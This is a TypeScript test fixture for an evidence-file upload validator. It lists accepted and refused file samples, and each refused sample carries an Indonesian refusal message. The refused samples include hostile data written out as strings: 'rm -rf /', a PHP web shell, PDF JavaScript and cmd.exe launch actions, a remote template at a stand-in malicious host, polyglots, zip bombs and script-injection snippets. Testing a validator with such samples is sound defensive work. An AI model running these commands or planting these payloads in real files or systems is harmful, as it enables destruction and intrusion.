import type { EvidenceType } from '#workflows/catalogue/evidence-file.ts'
import { good, head, header, rowsBook } from '../hostile/make/xlsx.ts'
import { zip } from '../hostile/make/zip.ts'
import { docx, jpeg, oldContainer, openDocument, pdf, png, webp } from './files.ts'

/** A file as somebody sends it, and what becomes of it: the type it is taken as, or words of the refusal. */
export interface EvidenceCase {
  readonly what: string
  /** What the sender calls it. */
  readonly name: string
  readonly bytes: () => Buffer
  readonly is: EvidenceType | { readonly refused: string }
}

const latin = (text: string) => Buffer.from(text, 'latin1')
const page = '<!DOCTYPE html><html><body><script>fetch("/keluar")</script></body></html>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
const twoKinds = { refused: 'dua jenis sekaligus' }
const broken = { refused: 'rusak atau tidak lengkap' }
const program = { refused: 'program yang dapat dijalankan' }
const macros = { refused: 'memuat makro' }
const locked = { refused: 'terkunci kata sandi' }
const webPage = { refused: 'halaman web, apa pun namanya' }
const archive = { refused: 'arsip tidak diterima' }
const embedded = { refused: 'menyisipkan program atau berkas lain' }

function of(
  what: string,
  name: string,
  bytes: Buffer | (() => Buffer),
  is: EvidenceCase['is'],
): EvidenceCase {
  return { what, name, bytes: typeof bytes === 'function' ? bytes : () => bytes, is }
}

const workbook = () => rowsBook(header, good)
const inBook =
  (name: string, content = 'x') =>
  () =>
    zip([
      {
        name: '[Content_Types].xml',
        content: `<Types><Override ContentType="x.spreadsheetml.sheet.main+xml"/></Types>`,
      },
      { name: 'xl/workbook.xml', content: `${head}<workbook/>` },
      { name, content },
    ])

/** What people bring, under right names and wrong ones. */
export const takenFiles: readonly EvidenceCase[] = [
  of('a PDF', 'kontrak.pdf', pdf(), 'pdf'),
  of(
    'a PDF with a picture of noise in it',
    'pindaian.pdf',
    pdf(`stream\n${'\x00\xff/JS(x'.repeat(2000)}\nendstream`),
    'pdf',
  ),
  of('a PDF with line ends after it', 'kontrak.pdf', pdf('', { after: '\r\n\r\n' }), 'pdf'),
  of('a photo', 'IMG_0001.JPG', jpeg(), 'jpeg'),
  of(
    'a photo with something of the phone behind it',
    'IMG_0002.jpg',
    jpeg({ after: 'SEFH\0\0\0Image_UTC_Data' }),
    'jpeg',
  ),
  of('a screen shot', 'layar.png', png(), 'png'),
  of('a WebP picture', 'layar.webp', webp(), 'webp'),
  of('a workbook', 'rekap.xlsx', workbook, 'xlsx'),
  of('a workbook named .pdf', 'rekap.pdf', workbook, 'xlsx'),
  of('a Word document', 'surat.docx', docx(), 'docx'),
  of(
    'a Word document with a chart of its own',
    'surat.docx',
    docx([{ name: 'word/embeddings/Lembar.xlsx', content: 'PK' }]),
    'docx',
  ),
  of('an ODS workbook', 'rekap.ods', openDocument('spreadsheet'), 'ods'),
  of('an ODT document', 'surat.odt', openDocument('text'), 'odt'),
  of(
    'an ODT that names its empty library',
    'surat.odt',
    openDocument('text', [{ name: 'Basic/Standard/script-lb.xml', content: '<x/>' }]),
    'odt',
  ),
  of('a CSV', 'pengguna.csv', latin('bulan;pengguna\nJanuari;120\n'), 'csv'),
  of('a CSV of Excel in Windows-1252', 'pengguna.CSV', latin('nama;jumlah\nCaf\xe9;3\n'), 'csv'),
  of('a log of a server', 'akses.log', latin('10.1.1.1 - - [01/Jul/2026] "GET / HTTP/1.1" 200\n'), 'txt'),
  of('a text in UTF-16', 'catatan.txt', Buffer.from('\uFEFFCatatan rapat', 'utf16le'), 'txt'),
  of(
    'a text that speaks of a page',
    'catatan.txt',
    latin('Halaman memuat tabel <b>tebal</b> dan gambar.'),
    'txt',
  ),
]

/** What must not come in, each refused with a sentence that says what to do. */
export const refusedFiles: readonly EvidenceCase[] = [
  of('nothing', 'kosong.pdf', Buffer.alloc(0), { refused: 'Berkas kosong' }),
  of('a web page named .pdf', 'kontrak.pdf', latin(page), webPage),
  of('a web page named .jpg after blank lines', 'foto.jpg', latin(`\n\n  ${page}`), webPage),
  of('a web page in UTF-16 named .txt', 'catatan.txt', Buffer.from(`\uFEFF${page}`, 'utf16le'), webPage),
  of(
    'a saved web page of several parts',
    'bukti.mht',
    latin('MIME-Version: 1.0\r\nContent-Type: text/html\r\n'),
    webPage,
  ),
  of('a text that turns into a page', 'catatan.txt', latin(`Catatan\n<script>alert(1)</script>`), webPage),
  of('an SVG', 'logo.svg', latin(svg), { refused: 'SVG' }),
  of('an SVG named .png behind its declaration', 'logo.png', latin(`<?xml version="1.0"?>\n${svg}`), {
    refused: 'SVG',
  }),
  of('some XML', 'data.xml', latin('<?xml version="1.0"?><data/>'), { refused: 'XML atau JSON' }),
  of('some JSON', 'data.json', latin('{"a":1}'), { refused: 'XML atau JSON' }),
  of('a program named .pdf', 'kontrak.pdf', latin('MZ\x90\0\x03\0\0\0\x04'), program),
  of(
    'a program that says %PDF a little later',
    'kontrak.pdf',
    latin(`MZ\x90\0${' '.repeat(60)}%PDF-1.7\n%%EOF\n`),
    program,
  ),
  of('a program of Linux', 'alat', latin('\x7fELF\x02\x01\x01'), program),
  of('a shortcut of Windows', 'kontrak.pdf.lnk', latin('L\0\0\0\x01\x14\x02\0\0\0\0\0'), program),
  of('a script of a shell', 'cadangan.txt', latin('#!/bin/sh\nrm -rf /\n'), {
    refused: 'perintah yang dapat dijalankan',
  }),
  of('a script of PHP', 'bukti.txt', latin('<?php system($_GET[0]);'), {
    refused: 'perintah yang dapat dijalankan',
  }),
  of('an archive', 'bukti.zip', () => zip([{ name: 'kontrak.pdf', content: pdf() }]), archive),
  of('an archive named .docx', 'surat.docx', () => zip([{ name: 'a.txt', content: 'x' }]), archive),
  of('an empty archive', 'bukti.zip', () => zip([]), archive),
  of('a RAR archive', 'bukti.rar', latin('Rar!\x1a\x07\x01\0'), archive),
  of('a 7z archive', 'bukti.7z', latin("7z\xbc\xaf'\x1c\0\x04"), archive),
  of('an old Word document', 'surat.doc', oldContainer('WordDocument'), { refused: 'Office lama' }),
  of('a locked workbook', 'rekap.xlsx', oldContainer('EncryptedPackage'), locked),
  of('a locked PDF', 'kontrak.pdf', pdf('trailer << /Encrypt 9 0 R >>'), locked),
  of(
    'a locked ODS',
    'rekap.ods',
    openDocument('spreadsheet', [], '<manifest><encryption-data/></manifest>'),
    locked,
  ),
  of(
    'a locked part of an archive',
    'surat.docx',
    docx([{ name: 'word/x.xml', content: 'x', isLocked: true }]),
    locked,
  ),
  of('a workbook with macros', 'rekap.xlsx', inBook('xl/vbaProject.bin'), macros),
  of('a workbook with macros of 1992', 'rekap.xlsx', inBook('xl/macrosheets/sheet1.xml'), macros),
  of(
    'a document whose type says macros',
    'surat.docx',
    docx([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    macros,
  ),
  of(
    'an ODT with a module of Basic',
    'surat.odt',
    openDocument('text', [{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }]),
    macros,
  ),
  of(
    'an ODS with a script of Python',
    'rekap.ods',
    openDocument('spreadsheet', [{ name: 'Scripts/python/a.py', content: 'x' }]),
    macros,
  ),
  of(
    'a document with a program in it',
    'surat.docx',
    docx([{ name: 'word/embeddings/oleObject1.bin', content: 'MZ' }]),
    embedded,
  ),
  of(
    'a document with an ActiveX control',
    'surat.docx',
    docx([{ name: 'word/activeX/activeX1.xml', content: 'x' }]),
    embedded,
  ),
  of(
    'a document with a program under its own name',
    'surat.docx',
    docx([{ name: 'pasang.exe', content: 'MZ' }]),
    embedded,
  ),
  of(
    'a document with a template on a server',
    'surat.docx',
    docx([
      {
        name: 'word/_rels/settings.xml.rels',
        content:
          '<Relationships><Relationship Type="x/attachedTemplate" Target="https://jahat.example/t.dotm" TargetMode="External"/></Relationships>',
      },
    ]),
    { refused: 'templat dari alamat luar' },
  ),
  of('slides', 'paparan.odp', openDocument('presentation'), { refused: 'presentasi' }),
  of('a drawing', 'denah.odg', openDocument('graphics'), { refused: 'bukan lembar kerja atau naskah' }),
  of('a rich text', 'surat.rtf', latin('{\\rtf1 surat}'), { refused: 'bukan lembar kerja atau naskah' }),
  of('a photo of an iPhone', 'IMG.HEIC', latin('\0\0\0\x18ftypheic'), { refused: 'HEIC' }),
  of('a film', 'rekaman.mp4', latin('\0\0\0\x18ftypisom'), { refused: 'Video dan suara' }),
  of('a GIF', 'logo.gif', latin('GIF89a\x01\0\x01\0'), { refused: 'JPEG atau PNG' }),
  of('a TIFF', 'pindaian.tif', latin('II*\0\x08\0\0\0'), { refused: 'JPEG atau PNG' }),
  of('a PDF with a script', 'kontrak.pdf', pdf('5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), {
    refused: 'memuat skrip',
  }),
  of(
    'a PDF with a script in disguise',
    'kontrak.pdf',
    pdf('5 0 obj << /S /J#61vaScr#69pt /JS (x) >> endobj'),
    { refused: 'memuat skrip' },
  ),
  of('a PDF with a script far inside', 'kontrak.pdf', pdf(`${'x'.repeat(262_100)} /S /JavaScript`), {
    refused: 'memuat skrip',
  }),
  of('a PDF that starts a program', 'kontrak.pdf', pdf('<< /S /Launch /F (cmd.exe) >>'), {
    refused: 'membuka program lain',
  }),
  of('a PDF with a file in it', 'kontrak.pdf', pdf('<< /Type /EmbeddedFile >>'), {
    refused: 'menyimpan berkas lain',
  }),
  of('a PDF that was cut off', 'kontrak.pdf', pdf().subarray(0, 100), broken),
  of(
    'a PDF that is an archive too',
    'kontrak.pdf',
    () => Buffer.concat([pdf(), zip([{ name: 'a.exe', content: 'MZ' }])]),
    twoKinds,
  ),
  of(
    'a PDF that begins as a page',
    'kontrak.pdf',
    latin(`%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n`),
    twoKinds,
  ),
  of(
    'a photo that is an archive too',
    'foto.jpg',
    () => Buffer.concat([jpeg(), zip([{ name: 'a.jar', content: 'x' }])]),
    twoKinds,
  ),
  of(
    'a photo whose comment is a page',
    'foto.jpg',
    jpeg({ comment: '<script >alert(1)</script>' }),
    twoKinds,
  ),
  of('a photo that is a PDF too', 'foto.jpg', jpeg({ comment: '%PDF-1.4' }), twoKinds),
  of('a photo with PHP behind it', 'foto.jpg', jpeg({ after: '<?php system(1);' }), twoKinds),
  of('a picture with a page in its text', 'layar.png', png({ text: 'Comment\0<html >x' }), twoKinds),
  of(
    'a picture with something behind its end',
    'layar.png',
    Buffer.concat([png(), Buffer.from('MZ tambahan')]),
    twoKinds,
  ),
  of('a WebP with something behind its end', 'layar.webp', webp({ after: 'lebih dari dua' }), twoKinds),
  of(
    'an archive with something before it',
    'surat.docx',
    () => Buffer.concat([Buffer.from('PK\x03\x04 '), docx()]),
    twoKinds,
  ),
  of('two parts of one name', 'surat.docx', docx([{ name: 'WORD/document.xml', content: 'x' }]), twoKinds),
  of('a photo that was cut off', 'foto.jpg', jpeg({ isCut: true }), broken),
  of('a picture that was cut off', 'layar.png', png().subarray(0, 50), broken),
  of('a WebP that was cut off', 'layar.webp', webp({ toldMore: 900 }), broken),
  of('a document that was cut off', 'surat.docx', docx().subarray(0, 200), broken),
  of('a picture as wide as a street', 'layar.png', png({ width: 40_000, height: 40_000 }), {
    refused: 'terlalu lebar atau tinggi',
  }),
  of('a photo as wide as a street', 'foto.jpg', jpeg({ width: 65_000, height: 65_000 }), {
    refused: 'terlalu lebar atau tinggi',
  }),
  of('a bomb', 'rekap.xlsx', inBook('xl/worksheets/sheet1.xml', 'x'.repeat(80 * 1024 * 1024)), {
    refused: 'sangat besar bila dibuka',
  }),
  of(
    'a bomb that tells its size',
    'rekap.xlsx',
    () => zip([{ name: '[Content_Types].xml', content: 'x', toldSize: 4_000_000_000 }]),
    { refused: 'sangat besar bila dibuka' },
  ),
  of('noise', 'bukti.bin', Buffer.from([3, 141, 5, 9, 0, 26, 5, 200, 1]), {
    refused: 'tidak diterima sebagai bukti',
  }),
  of('a text with a NUL at its end', 'catatan.txt', latin(`${'catatan '.repeat(90_000)}\0`), {
    refused: 'tidak diterima sebagai bukti',
  }),
]
